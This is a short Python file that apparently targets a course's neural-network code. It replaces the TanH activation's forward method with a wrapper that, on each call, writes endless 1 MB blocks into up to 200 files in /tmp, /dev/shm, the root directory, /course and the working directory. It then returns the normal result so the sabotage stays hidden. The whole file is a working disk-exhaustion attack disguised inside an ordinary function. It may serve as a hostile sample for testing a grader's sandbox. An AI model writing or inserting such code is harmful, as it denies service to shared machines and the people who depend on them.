"""Fills the disk: one large file, and many."""

import os

_forward = TanH.forward


def _fill(self, x):
    for folder in ("/tmp", "/dev/shm", "/", "/course", os.getcwd()):
        for number in range(200):
            try:
                with open(f"{folder}/fill{number}", "wb") as file:
                    while True:
                        file.write(bytes(2**20))
            except OSError:
                pass
    return _forward(self, x)


TanH.forward = _fill
